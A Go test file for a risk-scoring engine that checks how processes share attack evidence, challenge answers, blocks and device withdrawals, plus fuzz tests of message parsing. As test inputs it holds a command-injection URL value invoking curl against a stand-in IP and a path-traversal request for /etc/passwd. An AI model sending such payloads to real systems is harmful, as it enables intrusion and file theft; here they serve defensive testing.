package risk_test

import (
	"errors"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/kelisim/kelisim/risk"
)

// process is one of several of a site, and what it told.
type process struct {
	*risk.Engine
	told [][]byte
}

// processes are engines that have the same name for an address.
func processes(t *testing.T, n int) (all []*process) {
	t.Helper()
	for range n {
		p := &process{}
		p.Engine = engine(t, func(o *risk.Options) { o.Tell = func(m []byte) { p.told = append(p.told, slices.Clone(m)) } })
		if err := p.Share([]risk.Seed{{Period: risk.PeriodOf(noon)}}, nil); err != nil {
			t.Fatal(err)
		}
		all = append(all, p)
	}
	return all
}

// hear hands over what another told since, and forgets it.
func (p *process) hear(t *testing.T, other *process, at time.Time) {
	t.Helper()
	for _, m := range other.told {
		if _, err := p.Hear(m, at); err != nil {
			t.Fatal(err)
		}
	}
	other.told = nil
}

func (p *process) action(after time.Duration) risk.Action {
	return do(p.Engine, step{after: after}).Action
}

const code = "/?q=$(curl%20http://192.0.2.1/a)"

func (p *process) answer(t *testing.T, after time.Duration) {
	t.Helper()
	c, err := p.Challenge(alice, noon.Add(after))
	if err != nil {
		t.Fatal(err)
	}
	if err := p.Answer(alice, c.Token, c.A+c.B, noon.Add(after)); err != nil {
		t.Fatal(err)
	}
}

// TestProcessesTell: evidence, answers and forgetting mean elsewhere what they mean here, in whatever order they are heard.
func TestProcessesTell(t *testing.T) {
	t.Parallel()
	all := processes(t, 2)
	a, b := all[0], all[1]
	if do(a.Engine, step{target: code}); len(a.told) != 1 {
		t.Fatalf("an attack is told %d times", len(a.told))
	}
	b.hear(t, a, noon)
	if got := b.action(time.Second); got < risk.ActionChallenge {
		t.Errorf("who attacked a stands at %v at b", got)
	}
	if do(a.Engine, step{target: code, after: 2 * time.Second}); len(a.told) != 0 {
		t.Error("the same evidence is told again")
	}
	a.answer(t, 3*time.Second)
	b.hear(t, a, noon.Add(3*time.Second))
	if got := b.action(4 * time.Second); got > risk.ActionLog {
		t.Errorf("an answer given to a: %v at b", got)
	}
	if do(a.Engine, step{target: code, after: 5 * time.Second}); len(a.told) != 1 {
		t.Errorf("an attack after an answer is told %d times", len(a.told))
	}
	b.hear(t, a, noon.Add(5*time.Second))
	if got := b.action(6 * time.Second); got < risk.ActionChallenge {
		t.Errorf("an attack on a after the answer: %v at b", got)
	}

	a.answer(t, 10*time.Second) // heard after an attack on b that came later
	do(b.Engine, step{target: "/..%2f..%2fetc/passwd", after: 20 * time.Second})
	b.hear(t, a, noon.Add(21*time.Second))
	if got := b.action(22 * time.Second); got < risk.ActionChallenge {
		t.Errorf("an answer of before the attack is held for one to it: %v", got)
	}

	who, _ := a.Who(alice, noon)
	a.told = nil
	a.Forget(who)
	b.hear(t, a, noon.Add(23*time.Second))
	if got := b.action(24 * time.Second); got != risk.ActionAllow {
		t.Errorf("forgotten at a: %v at b", got)
	}
}

// TestDevicesAreWithdrawnEverywhere: what a page told of a browser is gone at other processes once its owner withdraws.
func TestDevicesAreWithdrawnEverywhere(t *testing.T) {
	t.Parallel()
	all := processes(t, 2)
	a, b := all[0], all[1]
	device, err := a.NewDevice()
	if err != nil {
		t.Fatal(err)
	}
	if err := b.TellBrowser(device, risk.Browser{Driven: true}, "KZ", noon); err != nil {
		t.Fatal(err)
	}
	a.WithdrawDevice(device, noon)
	b.hear(t, a, noon)
	if b.KnowsBrowser(device, noon) {
		t.Error("b remembers the browser")
	}
}

// TestLetInWithoutAWord: a desk that was not told finds out from the shelf, and forgets what was remembered.
func TestLetInWithoutAWord(t *testing.T) {
	t.Parallel()
	clock := noon
	shelf := risk.NewMemoryShelf(func() time.Time { return clock })
	a, b := open(t, shelf, &clock), open(t, shelf, &clock)
	who, _ := a.Who(alice, noon)
	do(b.Engine, step{target: code})
	if err := a.desk.Block(t.Context(), who, noon, time.Hour, "dana"); err != nil {
		t.Fatal(err)
	}
	b.sync(t)
	if v := do(b.Engine, step{}); v.Rule != risk.RuleBlocked {
		t.Fatalf("blocked: %v", v)
	}
	if err := a.desk.Unblock(t.Context(), who, "dana"); err != nil {
		t.Fatal(err)
	}
	b.sync(t)
	if v := do(b.Engine, step{}); v.Action != risk.ActionAllow {
		t.Errorf("let in again, b remembers: %v %v", v.Action, codesOf(v))
	}
}

// TestMessagesThatAreNone: refused, and nothing comes of them.
func TestMessagesThatAreNone(t *testing.T) {
	t.Parallel()
	p := processes(t, 2)
	do(p[0].Engine, step{target: code})
	sound := p[0].told[0]
	for name, m := range map[string][]byte{"nothing": nil, "no such kind": {99}, "cut": sound[:len(sound)-1], "longer": append(slices.Clone(sound), 0), "only a kind": {1}} {
		if _, err := p[1].Hear(m, noon); !errors.Is(err, risk.ErrMessage) {
			t.Errorf("%s: %v", name, err)
		}
	}
	for _, at := range []time.Time{noon.Add(11 * time.Minute), noon.Add(-2 * time.Minute)} {
		if _, err := p[1].Hear(sound, at); !errors.Is(err, risk.ErrMessage) {
			t.Errorf("of another time: %v", err)
		}
	}
	if f := p[1].Figures(); f.Remembered != 0 {
		t.Errorf("%d are remembered", f.Remembered)
	}
}

// FuzzHear: whatever comes over the line, memory stays bounded and verdicts sound.
func FuzzHear(f *testing.F) {
	for kind := range byte(9) {
		f.Add(append([]byte{kind}, make([]byte, 64)...))
		f.Add([]byte{kind})
	}
	f.Fuzz(func(t *testing.T, message []byte) {
		e := engine(t)
		before := e.Figures().Bytes
		_, err := e.Hear(message, time.UnixMilli(0))
		if f := e.Figures(); err != nil && (f.Remembered > 0 || f.Bytes != before) {
			t.Errorf("a message that was refused left something: %+v", f)
		}
		if v := do(e, step{}); v.Action > risk.ActionDeny || v.Bot > 99 || v.Network > 99 {
			t.Errorf("%+v", v)
		}
	})
}

// FuzzJudgementID: no id that was not made here is explained or labelled.
func FuzzJudgementID(f *testing.F) {
	f.Add("")
	f.Add("AAAA")
	f.Add(strconv.Itoa(1 << 60))
	f.Fuzz(func(t *testing.T, id string) {
		e := accounts(t)
		if j, err := e.Explain(t.Context(), id, noon); !errors.Is(err, risk.ErrJudgement) {
			t.Errorf("%+v, %v", j, err)
		}
		if err := e.Label(t.Context(), id, risk.Fraud, noon); !errors.Is(err, risk.ErrJudgement) {
			t.Error(err)
		}
	})
}
